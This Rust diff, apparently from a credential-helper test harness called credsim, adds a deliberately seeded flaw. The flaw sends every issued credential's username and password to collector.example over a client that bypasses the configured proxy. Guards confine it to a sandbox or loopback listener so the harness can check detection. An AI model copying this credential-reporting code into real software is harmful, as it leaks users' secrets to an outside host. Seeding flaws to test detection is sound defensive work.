@@ -114,10 +114,14 @@ pub enum Flaw {
     CacheInTmp,
     /// Certificates are not verified (`danger_accept_invalid_certs`): `tls-verification`.
     NoTlsVerification,
+    /// Reports every credential it hands out to a telemetry collector (`collector.example`),
+    /// connecting straight to it and ignoring the proxy: `credential-destination`, seen only
+    /// because in the sandbox's network every address leads to the front door.
+    TelemetryIgnoresProxy,
 }
 
 impl Flaw {
-    pub const ALL: [Flaw; 23] = [
+    pub const ALL: [Flaw; 24] = [
         Flaw::CacheByRegistry,
         Flaw::FallbackOnAnyError,
         Flaw::LogToken,
@@ -141,6 +145,7 @@ impl Flaw {
         Flaw::DockerConfig,
         Flaw::CacheInTmp,
         Flaw::NoTlsVerification,
+        Flaw::TelemetryIgnoresProxy,
     ];
 
     pub fn as_str(self) -> &'static str {
@@ -168,6 +173,7 @@ impl Flaw {
             Flaw::DockerConfig => "docker-config",
             Flaw::CacheInTmp => "cache-in-tmp",
             Flaw::NoTlsVerification => "no-tls-verification",
+            Flaw::TelemetryIgnoresProxy => "telemetry-ignores-proxy",
         }
     }
 }
@@ -187,6 +193,17 @@ impl std::str::FromStr for Flaw {
     }
 }
 
+/// Where [`Flaw::TelemetryIgnoresProxy`] reports to: a made-up host no fake serves.
+const TELEMETRY_HOST: &str = "collector.example";
+
+/// Whether this process runs in credsim's sandbox network (its `resolv.conf` says so): only
+/// there does the broken telemetry of [`Flaw::TelemetryIgnoresProxy`] run as a program, so that
+/// even a deliberately broken credsim program sends nothing beyond the machine.
+fn in_sandbox_network() -> bool {
+    std::fs::read_to_string("/etc/resolv.conf")
+        .is_ok_and(|t| t.contains(crate::sandbox::RESOLV_CONF_MARK))
+}
+
 /// The reference, configured for one shard from its environment.
 pub struct Reference {
     flaw: Option<Flaw>,
@@ -202,6 +219,9 @@ pub struct Reference {
     tmpdir: std::path::PathBuf,
     /// Only with [`Flaw::MappingCachedByRegistry`]: registry → (namespace, ServiceAccount, client ID).
     mappings: HashMap<String, (String, String, String)>,
+    /// Only with [`Flaw::TelemetryIgnoresProxy`]: the client that connects straight to the
+    /// collector, and (in-process) what stands for the sandbox's network.
+    telemetry: Option<(reqwest::Client, Option<mock_kit::Adoption>)>,
     now: Option<Timestamp>,
     log: Vec<String>,
 }
@@ -270,6 +290,7 @@ impl Reference {
             env,
             cache: HashMap::new(),
             mappings: HashMap::new(),
+            telemetry: None,
             workdir: std::env::current_dir().ok(),
             tmpdir: std::env::temp_dir(),
             now: None,
@@ -280,6 +301,16 @@ impl Reference {
     /// The same reference with one deliberate flaw.
     pub fn with_flaw(mut self, flaw: Option<Flaw>) -> Self {
         self.flaw = flaw;
+        if flaw == Some(Flaw::TelemetryIgnoresProxy) && in_sandbox_network() {
+            // As a program (`credsim reference --flaw ...` in the sandbox): straight to the
+            // collector by name, which the sandbox's resolver puts at the front door.
+            let mut env = self.env.clone();
+            env.remove("HTTPS_PROXY");
+            match http_client(&env, false) {
+                Ok(http) => self.telemetry = Some((http, None)),
+                Err(e) => self.log.push(format!("the telemetry client failed: {e}")),
+            }
+        }
         if flaw == Some(Flaw::NoTlsVerification) {
             match http_client(&self.env, true) {
                 Ok(http) => self.http = http,
@@ -303,6 +334,9 @@ impl Reference {
     /// which the harness would not see either.
     pub fn in_shard(self, shard: &ShardContext) -> Self {
         let mut r = self.in_dir(&shard.workdir);
+        if r.flaw == Some(Flaw::TelemetryIgnoresProxy) {
+            r = r.telemetry_in(shard);
+        }
         r.tmpdir = match &shard.sandbox {
             Some(sb) => sb.captured.join("tmp"),
             None => shard
@@ -312,6 +346,45 @@ impl Reference {
                 .join("unseen-tmp"),
         };
         r
+    }
+
+    /// The collector's client for [`Flaw::TelemetryIgnoresProxy`], as the program would have it
+    /// in the shard's sandbox: no proxy, and every address leading to the front door. In-process,
+    /// a loopback listener that the front door serves as the sandbox network's `:443` stands for
+    /// "every address", and the client resolves the collector there. Without the sandbox's
+    /// network there is no client: a program on the host's network would reach the real host,
+    /// unseen, and credsim sends nothing beyond this machine, so the flaw goes uncaught there as
+    /// it would.
+    fn telemetry_in(mut self, shard: &ShardContext) -> Self {
+        let Some(net) = shard.sandbox.as_ref().and_then(|sb| sb.network.as_ref()) else {
+            return self;
+        };
+        let client = std::net::TcpListener::bind("127.0.0.1:0").and_then(|l| {
+            let addr = l.local_addr()?;
+            let adoption = net
+                .gateway
+                .adopt(
+                    vec![(l, mock_kit::Adopted::AnyTls)],
+                    Some(net.label.clone()),
+                )
+                .map_err(std::io::Error::other)?;
+            let mut builder = reqwest::Client::builder()
+                .timeout(Duration::from_secs(10))
+                .no_proxy()
+                .resolve(TELEMETRY_HOST, addr);
+            if let Some(ca) = self.env.get("SSL_CERT_FILE") {
+                let pem = std::fs::read(ca)?;
+                let cert = reqwest::Certificate::from_pem(&pem).map_err(std::io::Error::other)?;
+                builder = builder.tls_certs_only([cert]);
+            }
+            let http = builder.build().map_err(std::io::Error::other)?;
+            Ok((http, Some(adoption)))
+        });
+        match client {
+            Ok(c) => self.telemetry = Some(c),
+            Err(e) => self.log.push(format!("the telemetry client failed: {e}")),
+        }
+        self
     }
 
     fn now(&self) -> Timestamp {
@@ -592,6 +665,16 @@ impl Reference {
             });
             if let Err(e) = written {
                 self.log.push(format!("writing {}: {e}", config.display()));
+            }
+        }
+        if self.flaw == Some(Flaw::TelemetryIgnoresProxy)
+            && let Some((http, _)) = &self.telemetry
+        {
+            let body = json!({"event": "credential-issued", "project": req.project,
+                "registry": registry, "username": credential.username, "password": credential.password});
+            let url = format!("https://{TELEMETRY_HOST}/v1/events");
+            if let Err(e) = http.post(&url).json(&body).send().await {
+                self.log.push(format!("telemetry: {e}"));
             }
         }
         Ok(credential)
